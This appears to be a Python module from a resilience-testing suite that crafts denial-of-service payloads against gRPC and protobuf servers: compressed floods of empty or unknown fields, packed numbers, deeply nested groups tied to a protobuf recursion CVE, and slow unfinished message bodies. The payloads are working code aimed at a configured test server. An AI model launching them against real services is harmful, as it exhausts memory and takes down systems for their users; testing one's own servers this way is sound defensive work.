"""Messages that are small on the wire and large once they are parsed."""

import asyncio
from collections.abc import Awaitable, Callable, Iterator

from google.protobuf.descriptor import FieldDescriptor

from hostile.attack import Bar, Scene, attack
from hostile.calls import (
    DELIMITED,
    GROUP,
    VARINT,
    Method,
    begin,
    compressed,
    delimited,
    fields_of,
    methods,
    send,
    tag,
    varint,
)
from support.bare_http2 import Connection, framed

_MEBIBYTE = 1 << 20
_AT_ONCE = 4

_DELIMITED_TYPES = (
    FieldDescriptor.TYPE_MESSAGE,
    FieldDescriptor.TYPE_STRING,
    FieldDescriptor.TYPE_BYTES,
)

# Requests in parts: their method, and what makes them. Made when they are sent, or all of them
# would be in memory.
_Case = tuple[str, Callable[[], bytes]]


@attack(source="protobuf: elements cost 20 to 100 times their size on the wire", is_finite=True)
async def empty_elements(scene: Scene) -> None:
    """Sends 58 MiB of empty elements, 57 KiB by gzip, in each repeated field of each RPC.

    A Python object for each of 30 million elements takes gigabytes, and half a minute of the event
    loop if it parses there.
    """
    await _send_all(scene, _empty_elements(_size(scene)), is_compressed=True)


@attack(source="protobuf: elements cost 20 to 100 times their size on the wire", is_finite=True)
async def empty_elements_uncompressed(scene: Scene) -> None:
    """Sends the same elements uncompressed, which no limit on compression's ratio refuses."""
    cases = [case for case in _empty_elements(_size(scene)) if _is_ours(case[0])]
    await _send_all(scene, cases[:: scene.scaled(6, 3)], is_compressed=False)


@attack(source="protobuf: runtimes keep fields that they do not know", is_finite=True)
async def unknown_fields(scene: Scene) -> None:
    """Sends 29 million fields that no message has to each RPC: runtimes keep them, for proxies."""
    size = _size(scene)
    cases = [(method.path, lambda: _unknown(size)) for method in methods()]
    await _send_all(scene, cases, is_compressed=True)


@attack(source="protobuf: packed fields", is_finite=True)
async def packed_scalars(scene: Scene) -> None:
    """Sends 58 million numbers in each repeated field of numbers: a byte each, packed."""
    size = _size(scene)
    cases = [
        (method.path, _lazily(path.request, delimited, path.field.number, size))
        for method in methods()
        for path in fields_of(method.request)
        if path.field.is_repeated and path.field.type not in _DELIMITED_TYPES
    ]
    await _send_all(scene, cases, is_compressed=True)


@attack(source="CVE-2025-4565, recursion in protobuf", is_finite=True)
async def deep_nesting(scene: Scene) -> None:
    """Nests lists, structs and unknown groups a million levels deep: parsers recurse."""
    deepest = scene.scaled(100_000, 1_000_000)
    groups = tag(15, GROUP) * deepest
    cases = [(method.path, lambda: groups) for method in methods()]
    sweep = "/leadline.v1.TrainingService/TrainSweep"
    for depth in (99, 1_000, 20_000):
        value = _nested_lists(depth)
        cases.append((sweep, lambda value=value: delimited(2, delimited(2, value))))  # type: ignore[misc]
    await _send_all(scene, cases, is_compressed=False)


@attack(
    source="slow HTTP bodies (CWE-770), in gRPC's messages",
    bar=Bar(memory_mib=256 + 128),  # the budget of requests that have begun, and some
)
async def unfinished_messages(scene: Scene) -> None:
    """Sends 58 of 60 MiB on each of 32 streams, and then nothing.

    A limit on each message is none on all of them. Beyond its budget the server must refuse, and
    others' small messages must still find room.
    """
    declared, sent = 60 * _MEBIBYTE, bytes(58 * _MEBIBYTE)
    start = framed(sent)[:1] + declared.to_bytes(4, "big")

    async def hold() -> None:
        async with Connection(scene.site.port) as connection:
            stream = await begin(connection, "/leadline.v1.InferenceService/Predict")
            await connection.send(stream, start)
            await connection.send(stream, sent)
            answer = await connection.answer(stream)
            scene.tally[f"refused: {answer.status}"] += 1
            await asyncio.sleep(1)

    await scene.begin()
    await scene.repeat(scene.scaled(8, 32), hold)


def _size(scene: Scene) -> int:
    return scene.scaled(4, 58) * _MEBIBYTE


def _is_ours(path: str) -> bool:
    return path.startswith("/leadline") or path.endswith("/ModelInfer")


def _empty_elements(size: int) -> Iterator[_Case]:
    for method in methods():
        for path in fields_of(method.request):
            if path.field.is_repeated:
                element = _empty_element(path.field)
                yield method.path, _lazily_repeated(path.request, element, size)


def _empty_element(field: FieldDescriptor) -> bytes:
    kind = DELIMITED if field.type in _DELIMITED_TYPES else VARINT
    return tag(field.number, kind) + b"\0"


def _lazily_repeated(
    request: Callable[[bytes], bytes], element: bytes, size: int
) -> Callable[[], bytes]:
    return lambda: request(element * (size // len(element)))


def _lazily(
    request: Callable[[bytes], bytes],
    encode: Callable[[int, bytes], bytes],
    number: int,
    size: int,
) -> Callable[[], bytes]:
    return lambda: request(encode(number, bytes(size)))


def _unknown(size: int) -> bytes:
    field = tag(15, VARINT) + b"\0"
    return field * (size // len(field))


def _nested_lists(depth: int) -> bytes:
    """A google.protobuf.Value of lists within lists."""
    value = b""
    for _ in range(depth):
        value = delimited(6, delimited(1, value))
    return value


async def _send_all(scene: Scene, cases: Iterator[_Case] | list[_Case], *, is_compressed: bool) -> None:
    """Sends each case once, some at a time; each on a connection of its own."""
    rest = iter(cases)

    async def send_rest() -> None:
        for path, make in rest:
            message = compressed(make()) if is_compressed else make()
            async with Connection(scene.site.port) as connection:
                await send(scene, connection, path, message, is_compressed=is_compressed)

    await scene.begin()
    async with asyncio.TaskGroup() as group:
        for _ in range(_AT_ONCE):
            group.create_task(send_rest())
